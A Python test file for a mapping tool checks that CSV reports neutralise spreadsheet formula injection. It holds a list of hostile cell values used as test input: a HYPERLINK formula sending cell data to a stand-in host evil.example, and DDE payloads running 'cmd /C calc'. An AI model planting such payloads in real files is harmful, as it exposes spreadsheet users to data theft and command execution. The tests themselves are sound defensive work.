"""Every CSV the tool writes is safe to open in a spreadsheet (issue 18, item 5): cells that
start with = + - @ tab or CR are neutralised (OWASP), so a bad-rows report that copies a
hostile cell does not run it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd

from geo.files.csvout import csv_text
from tests.bad_input.helpers import run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_bad_rows_report_neutralises_formulas(tmp_path: Path, capsys):
    table = tmp_path / "events.csv"
    with table.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["lat", "lon", "event_date"])
        writer.writerow(["50.45", "30.52", "2024-01-02"])
        for formula in FORMULAS:  # a formula where a latitude should be: a bad row
            writer.writerow([formula, "30.5", "2024-01-02"])
    report = tmp_path / "bad-rows.csv"
    code, text = run(capsys, "render", table, "-o", tmp_path / "m.html", "--report", report,
                     "--tiles", "none")  # fmt: skip
    assert code == 0, text
    cells = _cells(report)
    assert not [c for c in cells if c.startswith(DANGER)], cells
    for formula in FORMULAS:  # the value is still there, for the desk to see
        assert "'" + formula.replace("\r", "\n") in cells, cells


def test_csv_text_neutralises_text_not_numbers():
    frame = pd.DataFrame({"place": FORMULAS, "count": range(len(FORMULAS)),
                          "lon": [-3.5] * len(FORMULAS)})  # fmt: skip
    frame["@name"] = "x"
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["place", "count", "lon", "'@name"]
    assert [r[0] for r in rows[1:]] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert all(r[2] == "-3.5" for r in rows[1:])
